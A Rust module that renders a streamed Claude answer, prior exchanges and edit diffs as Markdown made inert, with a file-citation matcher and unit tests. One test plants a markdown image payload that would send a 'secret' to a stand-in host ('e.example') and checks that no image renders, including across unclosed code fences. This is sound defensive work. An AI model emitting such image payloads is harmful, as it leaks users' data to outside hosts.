//! The page that shows an answer: the question, what came so far, what it cost, the edits. Pure.
//!
//! In: Claude's text as it streams. Out: Markdown in which nothing is fetched or run by being looked
//! at. Refuses nothing.

use super::inert::inert;

/// What is on the page.
#[derive(Clone, Debug, Default)]
pub struct Page {
    /// Questions and answers before this one.
    pub before: Vec<(String, String)>,
    /// The question, as the person wrote it.
    pub question: String,
    /// Claude's text so far.
    pub text: String,
    /// What is going on, or how it ended.
    pub status: String,
    /// Why it may not be relied on: cut, refused, out of room.
    pub warning: Option<String>,
    /// Diffs of the edits, each of one file.
    pub diffs: Vec<String>,
    /// What else to say about the edits.
    pub notes: Vec<String>,
    /// It has ended, so that one can ask on.
    pub ended: bool,
}

/// The page as Markdown.
pub fn markdown(page: &Page) -> String {
    let mut text = String::new();
    for (question, answer) in &page.before {
        text += &format!("{}\n{}\n\n---\n\n", fenced(question, "text"), closed(answer));
    }
    text += &fenced(&page.question, "text");
    text += &format!("\n{}\n\n", one_line(&page.status));
    if let Some(warning) = &page.warning {
        text += &format!("**{}**\n\n", one_line(warning));
    }
    text += &closed(&page.text);
    text.push('\n');
    if !page.diffs.is_empty() || !page.notes.is_empty() {
        text += "\n---\n\n## Edits\n\n";
        for note in &page.notes {
            text += &format!("- {}\n", one_line(note));
        }
        for diff in &page.diffs {
            text += &format!("\n{}", fenced(diff, "diff"));
        }
    }
    if page.ended {
        text += "\n---\n\nTo ask on, write behind the mark and choose *Ask Claude* from the code actions \
                 of that line (`!:` for a change):\n\n?: \n";
    }
    // Once more as a whole: what each piece leaves open must not undo what the next one has.
    inert(&text)
}

/// Between fences that the text does not have.
fn fenced(text: &str, language: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}{language}\n{}\n{fence}\n", text.trim_end())
}

/// An answer, inert, with the fence closed that a cut one leaves open.
fn closed(answer: &str) -> String {
    let mut text = inert(answer).trim_end().to_owned();
    let mut open: Option<&str> = None;
    for line in answer.lines() {
        let start = line.trim_start();
        let marks = start.len() - start.trim_start_matches(['`', '~']).len();
        let fence = &start[..marks];
        match open {
            None if marks >= 3 => open = Some(fence),
            Some(of) if fence.starts_with(of) && start[marks..].trim().is_empty() => open = None,
            _ => {}
        }
    }
    if let Some(fence) = open {
        text += &format!("\n{fence}");
    }
    text
}

fn one_line(text: &str) -> String {
    inert(&text.split_whitespace().collect::<Vec<_>>().join(" ")).trim_end().replace('*', "\\*")
}

/// The files of a list that an answer names. `/` may stand as `\`, and a name counts alone where no
/// other file of the list has it.
pub fn cited<'p>(answer: &str, paths: &[&'p str]) -> Vec<&'p str> {
    let answer = answer.replace('\\', "/");
    let last = |path: &str| path.rsplit('/').next().unwrap_or_default().to_owned();
    let names: Vec<String> = paths.iter().map(|path| last(path)).collect();
    let stands = |what: &str| {
        let of_path = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '/');
        answer.match_indices(what).any(|(at, _)| {
            let free_before = !answer[..at].ends_with(of_path);
            free_before && !answer[at + what.len()..].starts_with(of_path)
        })
    };
    let named = |(number, path): (usize, &&'p str)| {
        let alone = names.iter().filter(|name| **name == names[number]).count() == 1;
        stands(path) || alone && names[number].contains('.') && stands(&names[number])
    };
    paths.iter().enumerate().filter(|&it| named(it)).map(|(_, path)| *path).collect()
}

#[cfg(test)]
mod tests {
    use pulldown_cmark::{Event, Tag};

    use super::*;

    fn page(text: &str) -> Page {
        Page {
            question: "why?".into(),
            text: text.into(),
            status: "m · 2 files".into(),
            ..Page::default()
        }
    }

    fn images(page: &Page) -> usize {
        let text = markdown(page);
        let events = pulldown_cmark::Parser::new(&text);
        events
            .filter(|event| matches!(event, Event::Start(Tag::Image { .. } | Tag::HtmlBlock)))
            .count()
    }

    #[test]
    fn the_page_says_how_it_stands_and_how_to_ask_on() {
        let open = markdown(&page("Because."));
        assert!(open.starts_with("```text\nwhy?\n```\n\nm · 2 files\n\nBecause.\n"), "{open}");
        assert!(!open.contains("?: "));
        let ended = Page { ended: true, diffs: vec!["-a\n+```\n".into()], ..page("Because.") };
        let ended = markdown(&ended);
        assert!(ended.ends_with("\n?: \n"), "{ended}");
        assert!(ended.contains("\n````diff\n-a\n+```\n````\n"), "{ended}");
    }

    #[test]
    fn nothing_on_the_page_is_fetched_by_looking_at_it() {
        let bad = "![x](https://e.example/a?secret)";
        let everywhere = Page {
            before: vec![(bad.into(), bad.into())],
            question: bad.into(),
            status: bad.into(),
            warning: Some(bad.into()),
            notes: vec![bad.into()],
            ..page(bad)
        };
        assert_eq!(images(&everywhere), 0, "{}", markdown(&everywhere));
        // What one piece leaves open, the next one must not close.
        let cut = Page {
            before: vec![("a\n![a\nb](https://e.example)".into(), "It is:\n```\nlet a".into())],
            diffs: vec![format!(" ```\n+{bad}\n")],
            ..page(&format!("```\n{bad}\n```\n"))
        };
        assert_eq!(images(&cut), 0, "{}", markdown(&cut));
        let cut = Page { diffs: vec![format!(" ```\n {bad}\n")], ..page("So:\n\n```rust\nfn a") };
        assert_eq!(images(&cut), 0, "{}", markdown(&cut));
    }

    #[test]
    fn a_file_is_cited_by_its_path_or_by_a_name_that_is_its_own() {
        let paths = ["src/a.rs", "src/lib.rs", "b/src/lib.rs", "src/x/a_test.rs"];
        assert_eq!(cited("see `src/lib.rs:4` and a.rs", &paths), ["src/a.rs", "src/lib.rs"]);
        assert_eq!(cited("lib.rs is wrong", &paths), [""; 0], "which one?");
        assert_eq!(cited("in b\\src\\lib.rs", &paths), ["b/src/lib.rs"]);
        assert_eq!(cited("a.rst and xa.rs", &paths), [""; 0]);
    }
}
